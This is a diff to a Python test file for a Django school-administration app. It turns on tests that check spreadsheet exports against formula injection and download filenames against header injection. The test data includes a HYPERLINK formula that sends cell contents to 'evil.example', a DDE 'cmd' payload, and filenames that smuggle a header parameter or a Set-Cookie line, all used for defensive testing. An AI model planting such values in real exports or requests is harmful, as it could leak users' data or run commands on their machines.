@@ -18,7 +18,6 @@ from eduplan.output import attachment, csv_bytes, write_records, xlsx_bytes
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 PAYLOADS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
-FIXED = "fixed in the next commit"
 
 
 def _no_formulas(data: bytes) -> list[str]:
@@ -39,17 +38,20 @@ def _csv_fields(data: bytes) -> list[str]:
 
 
 def _neutral(field: str) -> bool:
-    return not field.startswith(("=", "+", "-", "@", "\t", "\r"))
+    """Excel will not evaluate it: a number, or text not starting like a formula."""
+    try:
+        float(field)
+        return True
+    except ValueError:
+        return not field.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
-@pytest.mark.xfail(strict=True, reason=FIXED)
 def test_xlsx_export_writes_formula_text_as_text():
     rows = [{"name": p, "value": 1.5} for p in PAYLOADS]
     texts = _no_formulas(xlsx_bytes({"data": rows}))
     assert PAYLOAD in texts  # shown exactly as typed, never evaluated
 
 
-@pytest.mark.xfail(strict=True, reason=FIXED)
 def test_csv_exports_neutralise_formula_text(tmp_path):
     rows = [{"name": p, "value": -1.5} for p in PAYLOADS]
     fields = _csv_fields(csv_bytes(rows))
@@ -60,7 +62,6 @@ def test_csv_exports_neutralise_formula_text(tmp_path):
     assert all(_neutral(f) for f in _csv_fields(out.read_bytes()))
 
 
-@pytest.mark.xfail(strict=True, reason=FIXED)
 def test_notice_workbook_writes_formula_text_as_text():
     from eduplan.supervision import notices
     from tests.supervision.test_notices import data
@@ -72,7 +73,6 @@ def test_notice_workbook_writes_formula_text_as_text():
 
 
 @pytest.mark.django_db
-@pytest.mark.xfail(strict=True, reason=FIXED)
 def test_drilldown_and_findings_exports_from_the_pages(client):
     from eduplan.accounts.actions import create_user_with_role
     from eduplan.registry import actions
@@ -101,16 +101,13 @@ def test_drilldown_and_findings_exports_from_the_pages(client):
     _no_formulas(findings.content)
 
 
-XFAIL = pytest.mark.xfail(strict=True, reason=FIXED)
-
-
 @pytest.mark.parametrize(
     "name",
     [
-        pytest.param('q"; filename=evil.html;.csv', marks=XFAIL),
-        pytest.param("班级[2024].xlsx", marks=XFAIL),
+        'q"; filename=evil.html;.csv',
+        "班级[2024].xlsx",
         'a\\"b.xlsx',
-        pytest.param("line\r\nSet-Cookie: x=1.csv", marks=XFAIL),
+        "line\r\nSet-Cookie: x=1.csv",
     ],
 )
 def test_download_names_cannot_inject_header_parameters(name):
@@ -126,7 +123,6 @@ def test_download_names_cannot_inject_header_parameters(name):
 
 
 @pytest.mark.django_db
-@pytest.mark.xfail(strict=True, reason=FIXED)
 def test_an_upload_named_to_inject_a_parameter_downloads_its_errors_safely(client, tmp_path):
     from django.contrib.auth.models import User
 
